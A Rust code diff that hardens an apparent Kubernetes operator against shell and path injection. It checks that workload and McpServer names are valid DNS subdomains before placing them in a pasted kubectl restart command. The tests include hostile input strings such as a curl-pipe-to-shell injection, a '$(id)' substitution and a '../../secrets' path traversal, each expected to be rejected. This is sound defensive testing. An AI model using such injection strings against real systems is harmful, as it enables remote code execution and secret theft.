@@ -15,7 +15,7 @@ use serde_json::Value;
 use super::error::Error;
 use crate::{
     api::names,
-    inject::{Comparison, Plan, compare},
+    inject::{Comparison, Plan, compare, is_server_name},
     registry::ObjectKey,
 };
 
@@ -57,11 +57,14 @@ impl Restart {
         }
     }
 
+    /// The command is pasted into a shell, and the API server does not check the names of owners: only what can be the
+    /// name of a workload is one.
     fn of(pod: &PartialObjectMeta<Pod>) -> Self {
         let hash = pod.labels().get("pod-template-hash").map(|hash| format!("-{hash}"));
-        let rollout = |kind, name: &str| Some(Self::Rollout { kind, name: name.to_owned() });
+        let rollout = |kind, name: &str| is_subdomain(name).then(|| Self::Rollout { kind, name: name.to_owned() });
         let controller = pod.owner_references().iter().find(|owner| owner.controller == Some(true));
         let of_controller = controller.and_then(|owner| match owner.kind.as_str() {
+            _ if owner.api_version != "apps/v1" => None,
             "ReplicaSet" => rollout("deployment", owner.name.strip_suffix(hash.as_deref()?)?),
             "StatefulSet" => rollout("statefulset", &owner.name),
             "DaemonSet" => rollout("daemonset", &owner.name),
@@ -71,11 +74,23 @@ impl Restart {
     }
 }
 
+/// A DNS subdomain (RFC 1123), as every name of a workload is.
+fn is_subdomain(name: &str) -> bool {
+    let alphanumeric = |byte: &u8| byte.is_ascii_lowercase() || byte.is_ascii_digit();
+    let label = |label: &str| {
+        let bytes = label.as_bytes();
+        let edge = |byte: Option<&u8>| byte.is_some_and(alphanumeric);
+        edge(bytes.first()) && edge(bytes.last()) && bytes.iter().all(|byte| alphanumeric(byte) || *byte == b'-')
+    };
+    name.len() <= 253 && name.split('.').all(label)
+}
+
 impl PodMeta {
-    /// What matters of `pod`; `None` when it names no McpServer.
+    /// What matters of `pod`; `None` when it names nothing that can be an McpServer.
     fn of(pod: &PartialObjectMeta<Pod>) -> Option<Self> {
-        let label = pod.labels().get(names::SERVER).cloned();
-        let annotation = pod.annotations().get(names::SERVER).cloned();
+        let named = |name: &&String| is_server_name(name);
+        let label = pod.labels().get(names::SERVER).filter(named).cloned();
+        let annotation = pod.annotations().get(names::SERVER).filter(named).cloned();
         if label.is_none() && annotation.is_none() {
             return None;
         }
@@ -303,4 +318,47 @@ fn facts(pod: &Value, plan: &Plan) -> PodFacts {
 
 fn text<'a>(value: &'a Value, pointer: &str) -> Option<&'a str> {
     value.pointer(pointer).and_then(Value::as_str)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use rstest::rstest;
+    use serde_json::json;
+
+    fn pod(metadata: &Value) -> PartialObjectMeta<Pod> {
+        serde_json::from_value(json!({"apiVersion": "v1", "kind": "Pod", "metadata": metadata})).unwrap()
+    }
+
+    #[rstest]
+    #[case::deployment("apps/v1", "ReplicaSet", "a-7f9", "kubectl -n acme rollout restart deployment/a")]
+    #[case::stateful_set("apps/v1", "StatefulSet", "a.b", "kubectl -n acme rollout restart statefulset/a.b")]
+    #[case::daemon_set("apps/v1", "DaemonSet", "a", "kubectl -n acme rollout restart daemonset/a")]
+    #[case::bare_replica_set("apps/v1", "ReplicaSet", "a", "kubectl -n acme delete pod p")]
+    #[case::another_api("x.example/v1", "DaemonSet", "a", "kubectl -n acme delete pod p")]
+    #[case::a_command("apps/v1", "DaemonSet", "a; curl x.example | sh", "kubectl -n acme delete pod p")]
+    #[case::a_command_before_the_hash("apps/v1", "ReplicaSet", "$(id)-7f9", "kubectl -n acme delete pod p")]
+    #[case::an_option("apps/v1", "StatefulSet", "-a", "kubectl -n acme delete pod p")]
+    #[case::no_name("apps/v1", "StatefulSet", "", "kubectl -n acme delete pod p")]
+    fn the_command_names_only_what_can_be_a_workload(
+        #[case] api_version: &str,
+        #[case] kind: &str,
+        #[case] name: &str,
+        #[case] command: &str,
+    ) {
+        let owner = json!({"apiVersion": api_version, "kind": kind, "name": name, "uid": "u", "controller": true});
+        let pod = pod(&json!({"name": "p", "labels": {"pod-template-hash": "7f9"}, "ownerReferences": [owner]}));
+        assert_eq!(Restart::of(&pod).command("acme"), command);
+    }
+
+    #[rstest]
+    #[case::label(json!({"labels": {names::SERVER: "a"}}), &["a"])]
+    #[case::both(json!({"labels": {names::SERVER: "a"}, "annotations": {names::SERVER: "b"}}), &["a", "b"])]
+    #[case::no_name(json!({"labels": {names::SERVER: "A_b"}}), &[])]
+    #[case::a_path(json!({"annotations": {names::SERVER: "../../secrets/x"}}), &[])]
+    #[case::neither(json!({}), &[])]
+    fn only_a_name_is_looked_up(#[case] metadata: Value, #[case] servers: &[&str]) {
+        let meta = PodMeta::of(&pod(&metadata));
+        assert_eq!(meta.iter().flat_map(PodMeta::servers).collect::<Vec<_>>(), servers);
+    }
 }
